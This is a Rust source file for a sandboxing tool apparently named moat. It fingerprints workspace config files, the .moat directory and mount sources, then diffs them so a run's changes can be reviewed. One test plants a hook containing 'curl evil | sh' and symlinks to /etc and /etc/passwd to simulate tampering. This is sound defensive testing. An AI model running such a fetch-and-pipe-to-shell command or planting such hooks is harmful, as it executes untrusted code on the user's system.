//! What of a workspace decides what a run may do, captured and compared.

use std::collections::BTreeMap;
use std::io::Read as _;
use std::path::{Path, PathBuf};

use moat_config::CONFIG_FILE_NAMES;
use serde::{Deserialize, Serialize};
use sha2::{Digest as _, Sha256};

use crate::error::TrustError;
use crate::review::{Change, FileChange};

/// The directory of project files moat reads besides moat.yaml.
pub(crate) const MOAT_DIR: &str = ".moat";

/// `.moat/` with more entries than this is refused rather than hashed for
/// ever; moat's own files there are a handful.
const MAX_MOAT_DIR_ENTRIES: usize = 10_000;

/// The largest `.moat/` file fingerprinted: hashing is streamed, but an
/// 8 GB sparse file planted by a run would still stall every start.
const MAX_MOAT_FILE_BYTES: u64 = 64 << 20;

/// One config file as found.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub(crate) struct ConfigFile {
    /// The text (lossy if it is not UTF-8), so a later diff can be shown.
    pub text: String,
    /// SHA-256 of the bytes.
    pub sha256: String,
    /// Where the file was a symlink to. Links are refused now (never
    /// followed); kept so records written before still load and compare.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub symlink: Option<String>,
}

/// Everything in a workspace that changes what `moat run` does there.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub(crate) struct Snapshot {
    /// `moat.yaml` and `agent.yaml`, those present: an agent that creates
    /// `moat.yaml` beside an `agent.yaml` changes which one is loaded.
    pub config_files: BTreeMap<String, ConfigFile>,
    /// Every entry under `.moat/` by relative path: `sha256:…` for a
    /// file, `dir`, `symlink:TARGET` (never followed), `other`.
    pub moat_dir: BTreeMap<String, String>,
    /// Each mount source of the loaded config file → its real path after
    /// symlinks, `missing`, or `unreadable: …`. A symlink planted where a
    /// mounted directory was changes this, not moat.yaml.
    pub mount_sources: BTreeMap<String, String>,
}

impl Snapshot {
    /// Reads the workspace as it is now. `mount_sources` are those of the
    /// config as the caller parsed it (none when it did not parse): the
    /// snapshot reads the config files' bytes but never parses them.
    pub(crate) fn capture(
        workspace: &Path,
        mount_sources: &[PathBuf],
    ) -> Result<Snapshot, TrustError> {
        let mut snapshot = Snapshot::default();
        for name in CONFIG_FILE_NAMES {
            // No link followed, nothing but a regular file of at most
            // 1 MiB: a run may have made it a link to /dev/zero or a FIFO.
            let Some(bytes) =
                moat_home::read_bounded(workspace, Path::new(name), moat_config::MAX_CONFIG_BYTES)?
            else {
                continue;
            };
            snapshot.config_files.insert(
                name.to_owned(),
                ConfigFile {
                    text: String::from_utf8_lossy(&bytes).into_owned(),
                    sha256: hex::encode(Sha256::digest(&bytes)),
                    symlink: None,
                },
            );
        }
        walk_moat_dir(workspace, Path::new(MOAT_DIR), &mut snapshot.moat_dir)?;
        snapshot.mount_sources = resolve_mount_sources(mount_sources);
        Ok(snapshot)
    }

    /// A digest of the whole snapshot: equal digests, equal snapshots.
    pub(crate) fn digest(&self) -> String {
        // BTreeMaps serialise in key order, so the JSON is canonical.
        let json = serde_json::to_vec(self).unwrap_or_default();
        hex::encode(Sha256::digest(&json))
    }
}

fn walk_moat_dir(
    workspace: &Path,
    relative: &Path,
    out: &mut BTreeMap<String, String>,
) -> Result<(), TrustError> {
    let path = workspace.join(relative);
    let meta = match std::fs::symlink_metadata(&path) {
        Ok(meta) => meta,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(()),
        Err(e) => return Err(TrustError::read(&path, e)),
    };
    if out.len() >= MAX_MOAT_DIR_ENTRIES {
        return Err(TrustError::TooManyFiles {
            dir: workspace.join(MOAT_DIR),
            limit: MAX_MOAT_DIR_ENTRIES,
        });
    }
    let key = relative.display().to_string();
    let kind = meta.file_type();
    if kind.is_symlink() {
        let target = std::fs::read_link(&path).map_err(|e| TrustError::read(&path, e))?;
        out.insert(key, format!("symlink:{}", target.display()));
    } else if kind.is_file() {
        out.insert(key, format!("sha256:{}", hash_file(workspace, relative)?));
    } else if kind.is_dir() {
        out.insert(key, "dir".to_owned());
        let mut names: Vec<_> = std::fs::read_dir(&path)
            .map_err(|e| TrustError::read(&path, e))?
            .map(|entry| entry.map(|e| e.file_name()))
            .collect::<Result<_, _>>()
            .map_err(|e| TrustError::read(&path, e))?;
        names.sort();
        for name in names {
            walk_moat_dir(workspace, &relative.join(name), out)?;
        }
    } else {
        out.insert(key, "other".to_owned());
    }
    Ok(())
}

/// The SHA-256 of a `.moat/` file, read as a bounded regular file with no
/// link followed (it was a regular file when listed; a run may swap it).
fn hash_file(workspace: &Path, relative: &Path) -> Result<String, TrustError> {
    let Some((mut file, _)) = moat_home::open_bounded(workspace, relative, MAX_MOAT_FILE_BYTES)?
    else {
        return Ok("missing".to_owned());
    };
    let path = workspace.join(relative);
    let mut hasher = Sha256::new();
    let mut buf = [0u8; 64 * 1024];
    let mut read: u64 = 0;
    loop {
        let n = file
            .read(&mut buf)
            .map_err(|e| TrustError::read(&path, e))?;
        if n == 0 {
            break;
        }
        read += n as u64;
        if read > MAX_MOAT_FILE_BYTES {
            // It grew while hashed.
            return Err(moat_home::BoundedReadError::TooLarge {
                path,
                size: read,
                limit: MAX_MOAT_FILE_BYTES,
            }
            .into());
        }
        hasher.update(&buf[..n]);
    }
    Ok(hex::encode(hasher.finalize()))
}

/// Each mount source (absolute, as the parsed config names it) → where
/// it resolves now.
fn resolve_mount_sources(sources: &[PathBuf]) -> BTreeMap<String, String> {
    sources
        .iter()
        .map(|source| {
            let resolved = match std::fs::canonicalize(source) {
                Ok(real) => real.display().to_string(),
                Err(e) if e.kind() == std::io::ErrorKind::NotFound => "missing".to_owned(),
                Err(e) => format!("unreadable: {e}"),
            };
            (source.display().to_string(), resolved)
        })
        .collect()
}

/// What changed from `old` to `new`, config files first.
pub(crate) fn diff(old: &Snapshot, new: &Snapshot) -> Vec<Change> {
    let mut out = Vec::new();
    for name in CONFIG_FILE_NAMES {
        diff_config_file(
            name,
            old.config_files.get(name),
            new.config_files.get(name),
            &mut out,
        );
    }
    diff_moat_dir(&old.moat_dir, &new.moat_dir, &mut out);
    diff_mount_sources(&old.mount_sources, &new.mount_sources, &mut out);
    out
}

/// How config file `name` changed: as a whole, or key by key.
fn diff_config_file(
    name: &str,
    old: Option<&ConfigFile>,
    new: Option<&ConfigFile>,
    out: &mut Vec<Change>,
) {
    let file = name.to_owned();
    match (old, new) {
        (None, None) => {}
        (None, Some(b)) => {
            out.push(Change::ConfigFile {
                file: file.clone(),
                how: FileChange::Added,
            });
            // What it sets, so that a review shows the mounts and
            // grants it adds, not just that a file appeared.
            if let Some(changes) = moat_config::diff_keys("", &b.text) {
                out.extend(changes.into_iter().map(|change| Change::Key {
                    file: file.clone(),
                    change,
                }));
            }
        }
        (Some(_), None) => out.push(Change::ConfigFile {
            file,
            how: FileChange::Removed,
        }),
        (Some(a), Some(b)) => {
            if a.symlink != b.symlink {
                out.push(Change::ConfigFile {
                    file: file.clone(),
                    how: FileChange::Symlink(b.symlink.clone()),
                });
            }
            if a.sha256 == b.sha256 {
                return;
            }
            match moat_config::diff_keys(&a.text, &b.text) {
                Some(changes) if changes.is_empty() => out.push(Change::ConfigFile {
                    file,
                    how: FileChange::FormattingOnly,
                }),
                Some(changes) => out.extend(changes.into_iter().map(|change| Change::Key {
                    file: file.clone(),
                    change,
                })),
                None => out.push(Change::ConfigFile {
                    file,
                    how: FileChange::NotYaml,
                }),
            }
        }
    }
}

/// Entries of `.moat/` added, changed (or made links) and removed.
fn diff_moat_dir(
    old: &BTreeMap<String, String>,
    new: &BTreeMap<String, String>,
    out: &mut Vec<Change>,
) {
    for (path, state) in new {
        match old.get(path) {
            None => out.push(Change::MoatDir {
                path: path.clone(),
                how: FileChange::Added,
            }),
            Some(was) if was != state => out.push(Change::MoatDir {
                path: path.clone(),
                how: match state.strip_prefix("symlink:") {
                    Some(target) => FileChange::Symlink(Some(target.to_owned())),
                    None => FileChange::Changed,
                },
            }),
            Some(_) => {}
        }
    }
    for path in old.keys() {
        if !new.contains_key(path) {
            out.push(Change::MoatDir {
                path: path.clone(),
                how: FileChange::Removed,
            });
        }
    }
}

/// Mount sources that now resolve elsewhere: what only the snapshot
/// shows (sources added or removed show up as moat.yaml keys).
fn diff_mount_sources(
    old: &BTreeMap<String, String>,
    new: &BTreeMap<String, String>,
    out: &mut Vec<Change>,
) {
    for (source, now) in new {
        if let Some(was) = old.get(source) {
            if was != now {
                out.push(Change::MountSource {
                    source: PathBuf::from(source),
                    was: was.clone(),
                    now: now.clone(),
                });
            }
        }
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]
    use super::*;

    fn lines(old: &Snapshot, new: &Snapshot) -> Vec<String> {
        diff(old, new).iter().map(ToString::to_string).collect()
    }

    #[test]
    fn captures_config_moat_dir_and_mount_sources() {
        let ws = tempfile::tempdir().unwrap();
        let ws = ws.path().canonicalize().unwrap();
        std::fs::write(ws.join("moat.yaml"), "mounts: [\"./data:/data:ro\"]\n").unwrap();
        std::fs::create_dir_all(ws.join(".moat/hooks")).unwrap();
        std::fs::write(ws.join(".moat/hooks/pre.sh"), "echo hi\n").unwrap();
        std::fs::create_dir(ws.join("data")).unwrap();
        let sources = [ws.join("data")];
        let before = Snapshot::capture(&ws, &sources).unwrap();
        assert_eq!(
            before.moat_dir.keys().collect::<Vec<_>>(),
            [".moat", ".moat/hooks", ".moat/hooks/pre.sh"]
        );
        let data = ws.join("data").display().to_string();
        assert_eq!(before.mount_sources.get(&data), Some(&data));
        assert_eq!(
            before.digest(),
            Snapshot::capture(&ws, &sources).unwrap().digest()
        );

        // A run swaps the mounted directory for a symlink and edits a hook.
        std::fs::rename(ws.join("data"), ws.join("data.old")).unwrap();
        std::os::unix::fs::symlink("/etc", ws.join("data")).unwrap();
        std::fs::write(ws.join(".moat/hooks/pre.sh"), "curl evil | sh\n").unwrap();
        std::os::unix::fs::symlink("/etc/passwd", ws.join(".moat/link")).unwrap();
        let after = Snapshot::capture(&ws, &sources).unwrap();
        assert_ne!(before.digest(), after.digest());
        assert_eq!(
            lines(&before, &after),
            [
                "changed: .moat/hooks/pre.sh".to_owned(),
                "added: .moat/link".to_owned(),
                format!("changed: mount source {data} (now resolves to /etc; was {data})"),
            ]
        );
    }

    #[test]
    fn the_snapshot_resolves_the_sources_it_is_given_and_parses_nothing() {
        let ws = tempfile::tempdir().unwrap();
        let ws = ws.path().canonicalize().unwrap();
        std::fs::create_dir(ws.join("data")).unwrap();
        std::fs::write(ws.join("moat.yaml"), "mounts: [\"./data:/data:ro\"]\n").unwrap();
        // moat.yaml names ./data, but no parsed config was given: the
        // text is fingerprinted, the mount is not looked for in it.
        let unparsed = Snapshot::capture(&ws, &[]).unwrap();
        assert!(unparsed.config_files.contains_key("moat.yaml"));
        assert!(unparsed.mount_sources.is_empty());
        let missing = ws.join("elsewhere");
        let given = Snapshot::capture(&ws, std::slice::from_ref(&missing)).unwrap();
        assert_eq!(
            given.mount_sources.get(&missing.display().to_string()),
            Some(&"missing".to_owned())
        );
    }

    #[test]
    fn config_file_changes() {
        let file = |text: &str| ConfigFile {
            text: text.to_owned(),
            sha256: hex::encode(Sha256::digest(text.as_bytes())),
            symlink: None,
        };
        let with = |files: &[(&str, &str)]| Snapshot {
            config_files: files
                .iter()
                .map(|(n, t)| ((*n).to_owned(), file(t)))
                .collect(),
            ..Snapshot::default()
        };
        let old = with(&[("agent.yaml", "name: a\n")]);
        let new = with(&[("moat.yaml", "network: {policy: permissive}\n")]);
        assert_eq!(
            lines(&old, &new),
            [
                "added: moat.yaml",
                "added: network.policy (permissive)",
                "removed: agent.yaml"
            ]
        );
        let old = with(&[("moat.yaml", "network: {policy: strict}\n")]);
        let new = with(&[("moat.yaml", "network:\n  policy: permissive\n# hi\n")]);
        assert_eq!(
            lines(&old, &new),
            ["changed: network.policy (strict → permissive)"]
        );
        let new = with(&[("moat.yaml", "# same\nnetwork:\n  policy: strict\n")]);
        assert_eq!(
            lines(&old, &new),
            ["changed: moat.yaml (comments or layout only)"]
        );
        let new = with(&[("moat.yaml", "network: [\n")]);
        assert!(lines(&old, &new)[0].contains("not valid YAML"));
        let mut linked = with(&[("moat.yaml", "network: {policy: strict}\n")]);
        if let Some(f) = linked.config_files.get_mut("moat.yaml") {
            f.symlink = Some("/root/.moat/x".into());
        }
        assert_eq!(
            lines(&old, &linked),
            ["changed: moat.yaml (now a symlink to /root/.moat/x)"]
        );
    }
}
